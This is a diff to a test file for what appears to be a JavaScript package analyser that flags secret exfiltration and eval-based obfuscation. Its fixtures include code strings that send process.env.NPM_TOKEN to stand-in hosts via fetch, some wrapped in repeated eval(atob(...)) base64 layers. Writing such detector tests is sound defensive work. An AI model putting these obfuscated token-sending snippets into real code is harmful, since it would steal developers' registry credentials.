@@ -38,6 +38,12 @@ describe("code run from strings", () => {
     expect(flowSummary(facts)).toEqual(["ssh-key -> http https://p.example.invalid @index.js:4 (import)"]);
   });
 
+  it("a literal string run as code is analysed but is not obfuscation", async () => {
+    const facts = await analyze({ "index.js": "var g = Function('return this')(); eval('fetch(\\'https://x.example.invalid\\', { body: process.env.NPM_TOKEN })');" });
+    expect(facts.obfuscations).toEqual([]);
+    expect(facts.flows.map((f) => f.source.kind)).toEqual(["env-secret"]);
+  });
+
   it("eval of something that cannot be decoded is eval-dynamic", async () => {
     const facts = await analyze({ "index.js": "eval(process.argv[2]);" });
     expect(facts.obfuscations.map((o) => [o.technique, o.executed])).toEqual([["eval-dynamic", true]]);
@@ -45,10 +51,14 @@ describe("code run from strings", () => {
 
   it("stops at a nesting depth (eval of eval of …)", async () => {
     let code = "fetch('https://deep.example.invalid', { body: process.env.NPM_TOKEN });";
-    for (let i = 0; i < 8; i++) code = `eval(${JSON.stringify(code)});`;
+    for (let i = 0; i < 8; i++) code = `eval(atob(${JSON.stringify(Buffer.from(code).toString("base64"))}));`;
     const facts = await analyze({ "index.js": code });
     expect(facts.flows).toEqual([]);
-    expect(facts.obfuscations.map((o) => o.technique)).toEqual(["eval-decoded"]);
+    expect([...new Set(facts.obfuscations.map((o) => o.technique))]).toEqual(["eval-decoded"]);
+    // Three layers down the same payload is still followed.
+    let shallow = "fetch('https://deep.example.invalid', { body: process.env.NPM_TOKEN });";
+    for (let i = 0; i < 3; i++) shallow = `eval(atob(${JSON.stringify(Buffer.from(shallow).toString("base64"))}));`;
+    expect((await analyze({ "index.js": shallow })).flows).toHaveLength(1);
   });
 
   it("decoded code that does not parse is a parse problem, not a crash", async () => {
